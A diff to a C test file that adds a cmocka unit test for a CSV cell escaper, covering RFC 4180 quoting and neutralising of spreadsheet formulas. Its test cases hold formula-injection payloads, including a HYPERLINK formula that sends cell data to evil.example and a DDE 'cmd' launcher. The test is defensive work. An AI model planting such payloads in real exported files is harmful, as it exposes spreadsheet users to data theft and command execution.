@@ -1222,6 +1222,53 @@ static void test_customer_json(void **state)
 	customer_free(c);
 }
 
+/* CSV cells: quoting per RFC 4180 and OWASP's formula rule, one place. */
+static void test_csv_cell(void **state)
+{
+	static const struct {
+		const char *in, *out;
+	} cases[] = {
+		{ NULL, "" },
+		{ "", "" },
+		{ "plain", "plain" },
+		{ "Zoë Nguyễn", "Zoë Nguyễn" },
+		{ "a,b", "\"a,b\"" },
+		{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
+		{ "two\nlines", "\"two\nlines\"" },
+		{ "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+		  "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"" },
+		{ "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
+		{ "-2+3", "'-2+3" },
+		{ "@SUM(A1)", "'@SUM(A1)" },
+		{ "\tx", "'\tx" },
+		{ "\rx", "\"'\rx\"" },
+		{ "=1", "'=1" },
+		{ "-", "'-" },
+		{ "-.5", "'-.5" },
+		{ "-12", "-12" },
+		{ "+7", "+7" },
+		{ "-2.5", "-2.5" },
+		{ "-4.0%", "-4.0%" },
+		{ "3.", "3." },
+		{ "a=1", "a=1" },
+	};
+	struct buf b;
+
+	(void)state;
+	buf_init(&b, 1 << 20);
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		const char *got = csv_cell(&b, cases[i].in);
+
+		if (strcmp(got, cases[i].out) != 0)
+			fail_msg("case %zu: expected [%s], got [%s]", i, cases[i].out, got);
+	}
+	assert_true(csv_cell_is_formula("=A1"));
+	assert_false(csv_cell_is_formula("-1"));
+	assert_false(csv_cell_is_formula(NULL));
+	assert_false(csv_cell_is_formula(""));
+	buf_release(&b);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -1244,6 +1291,7 @@ int main(void)
 		cmocka_unit_test_teardown(test_hlc_observe, teardown_clock),
 		cmocka_unit_test(test_utf8),
 		cmocka_unit_test(test_trim),
+		cmocka_unit_test(test_csv_cell),
 		cmocka_unit_test(test_fold),
 		cmocka_unit_test(test_postcode),
 		cmocka_unit_test(test_email),
